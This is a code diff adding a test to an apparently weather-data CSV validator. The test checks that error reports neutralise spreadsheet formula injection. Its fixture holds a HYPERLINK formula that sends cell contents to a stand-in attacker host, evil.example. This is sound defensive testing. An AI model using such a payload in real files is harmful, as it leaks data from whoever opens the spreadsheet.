@@ -68,3 +68,22 @@ def test_unreadable_file_or_schema_exits_2(tmp_path: Path, schema_file: Path, ca
     assert "is not valid JSON" in capsys.readouterr().err
     assert main(["validate", str(empty), "--schema", "hk.no-such-dataset"]) == 2
     assert "not in the dataset catalogue" in capsys.readouterr().err
+
+
+def test_error_csv_never_hands_a_spreadsheet_a_formula(
+    tmp_path: Path, schema_file: Path, capsys
+) -> None:
+    data = tmp_path / "t.csv"
+    data.write_text(
+        "Date time,Automatic Weather Station,Air Temperature(degree Celsius)\n"
+        '=HYPERLINK("http://evil.example/?"&A1),Sha Tin,20\n',
+        encoding="utf-8",
+    )
+    errors = tmp_path / "e.csv"
+    assert main(["validate", str(data), "--schema", str(schema_file), "--csv", str(errors)]) == 1
+    import csv
+
+    rows = list(csv.DictReader(errors.read_text("utf-8-sig").splitlines()))
+    values = [row["value"] for row in rows if row["column"] == "Date time"]
+    assert values == ['\'=HYPERLINK("http://evil.example/?"&A1)']
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
